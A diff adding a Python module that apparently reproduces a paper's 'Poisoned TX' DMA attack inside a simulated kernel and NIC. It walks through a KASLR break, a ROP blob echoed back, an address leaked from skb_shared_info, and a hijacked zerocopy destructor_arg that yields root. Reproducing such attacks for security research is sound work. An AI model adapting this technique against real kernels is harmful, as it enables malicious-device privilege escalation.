@@ -1,0 +1,151 @@
+"""The Poisoned TX compound attack (section 5.4, Figure 8).
+
+"When deducing a valid PFN is not an option (e.g., due to a low memory
+footprint), another way of acquiring a valid KVA is needed. In this
+next attack, the KVA is acquired by spoofing a malicious transmitted
+(TX) packet. The attacker gains the needed KVA by *reading* it from
+the skb_shared_info of the sent packet."
+
+Stages:
+
+1. Probe echoes break KASLR (init_net -> text base, freelist KVAs ->
+   page_offset_base), enabling payload construction.
+2. The device coerces the victim into echoing the attack blob (fake
+   ubuf_info + poisoned ROP stack) as a >linear-threshold payload, so
+   the echo response carries it in a page fragment. The response's TX
+   mapping exposes the whole linear page for READ -- including the
+   ``skb_shared_info`` whose ``frags[0]`` holds the *struct page
+   pointer* and offset of the blob's page. 30-bit arithmetic turns
+   that into the blob's exact KVA. No physical-setup knowledge needed.
+3. The device *delays the TX completion* so the blob's buffer is not
+   freed ("the NIC spoofs an RX packet and delays the completion
+   notification of the TX packets so the malicious buffer is not
+   released prematurely").
+4. An RX packet supplies a writable ``skb_shared_info``; through a
+   Figure-7 window the device sets its zerocopy flag and points
+   ``destructor_arg`` at the blob. Freeing that skb detonates the
+   chain. The TX completion is released afterwards (staying inside
+   the driver's TX timeout).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
+from repro.core.attacks.payload import build_attack_blob
+from repro.core.attacks.window import open_rx_window_covering
+from repro.core.attributes import VulnerabilityAttributes
+from repro.errors import AttackFailed
+from repro.net.proto import PROTO_UDP, make_packet
+from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
+from repro.net.stack import ECHO_PORT, TX_LINEAR_MAX
+from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
+
+if TYPE_CHECKING:
+    from repro.net.nic import Nic
+    from repro.sim.kernel import Kernel
+
+#: buf_size of the linear head the echo path allocates for large
+#: payloads -- public kernel knowledge (repro.net.stack.send).
+ECHO_LINEAR_BUF_SIZE = 256
+
+_FRAG0_PAGE_OFF = SKB_SHARED_INFO.field("frags[0].page").offset
+_FRAG0_OFFSET_OFF = SKB_SHARED_INFO.field("frags[0].page_offset").offset
+_FRAG0_SIZE_OFF = SKB_SHARED_INFO.field("frags[0].size").offset
+_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
+_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset
+
+
+@dataclass
+class PoisonedTxReport:
+    attributes: VulnerabilityAttributes
+    ubuf_kva: int | None = None
+    escalated: bool = False
+    stage_log: list[str] = field(default_factory=list)
+
+
+def run_poisoned_tx(kernel: "Kernel", nic: "Nic",
+                    device: MaliciousDevice, *,
+                    cpu: int = 0) -> PoisonedTxReport:
+    """Execute Poisoned TX against a live victim."""
+    attrs = VulnerabilityAttributes()
+    report = PoisonedTxReport(attributes=attrs)
+
+    # Stage 1: KASLR break (needed to *construct* the blob at all).
+    if not break_kaslr_via_tx(kernel, nic, device, cpu=cpu):
+        report.stage_log.append("KASLR break failed; aborting")
+        return report
+    report.stage_log.extend(device.knowledge.notes)
+
+    # Stage 2: coerce the echo service into sending our blob back.
+    blob = build_attack_blob(device.knowledge)
+    marker = b"POISONED-TX!"
+    payload = blob + marker
+    payload += b"\x00" * (TX_LINEAR_MAX + 1 + 64 - len(payload))
+    request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
+                          proto=PROTO_UDP, flow_id=0x5001, payload=payload)
+    if not nic.device_receive(request, cpu=cpu):
+        raise AttackFailed("RX ring starved", stage="echo")
+    nic.napi_poll(cpu=cpu)
+    kernel.stack.process_backlog()
+
+    # Stage 3: fetch the TX response but DELAY its completion, then
+    # read the shared info off the linear page to learn the blob's KVA.
+    shared_info_off = skb_shared_info_offset(ECHO_LINEAR_BUF_SIZE)
+    delayed = []
+    for desc, data in nic.device_fetch_tx(cpu=cpu, complete=False):
+        if marker not in data:
+            nic.device_complete_tx(desc)  # unrelated traffic
+            continue
+        delayed.append(desc)
+        info_iova = desc.linear_iova + shared_info_off
+        page_ptr = device.dma_read_u64(info_iova + _FRAG0_PAGE_OFF)
+        frag_offset = int.from_bytes(
+            device.dma_read(info_iova + _FRAG0_OFFSET_OFF, 4), "little")
+        if device.knowledge.vmemmap_base is None:
+            device.knowledge.vmemmap_base = \
+                device.leak_scanner.recover_vmemmap_base(page_ptr)
+        pfn = device.knowledge.pfn_of_struct_page(page_ptr)
+        report.ubuf_kva = device.knowledge.kva_of_pfn(pfn, frag_offset)
+        attrs.record_kva(
+            report.ubuf_kva,
+            "struct page pointer + offset read from the echoed TX "
+            "skb_shared_info (Figure 8); 30-bit vmemmap arithmetic")
+        attrs.record_callback_access(
+            "RX skb_shared_info writable through a Figure-7 window")
+        report.stage_log.append(
+            f"blob located: struct page {page_ptr:#x} -> PFN {pfn:#x} "
+            f"offset {frag_offset:#x} -> KVA {report.ubuf_kva:#x}; "
+            f"TX completion withheld")
+        break
+    if report.ubuf_kva is None:
+        report.stage_log.append("echoed blob not found in TX stream")
+        return report
+
+    # Stage 4: spoof an RX packet and hijack ITS shared info to point
+    # at the delayed blob. Retry slots until the window covers the
+    # shared-info fields (strict mode needs favourable geometry).
+    base = skb_shared_info_offset(nic.rx_buf_size)
+    window = open_rx_window_covering(
+        kernel, nic, device,
+        lambda i: make_packet(dst_ip=0x0A00_0001, dst_port=9999,
+                              proto=PROTO_UDP, flow_id=0x5002 + i,
+                              payload=b"\x00" * 32),
+        [(base + _TX_FLAGS_OFF, 1), (base + _DESTRUCTOR_ARG_OFF, 8)],
+        cpu=cpu)
+    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
+    window.write_u64(base + _DESTRUCTOR_ARG_OFF, report.ubuf_kva)
+    attrs.record_window(
+        f"Figure-7 path(s) {'+'.join(sorted(window.paths_used))}")
+
+    # Detonation, then release the TX completion (within the timeout).
+    kernel.stack.process_backlog()
+    for desc in delayed:
+        nic.device_complete_tx(desc)
+    nic.tx_clean(cpu=cpu)
+    report.escalated = kernel.executor.creds.is_root
+    report.stage_log.append(f"escalated={report.escalated}")
+    return report
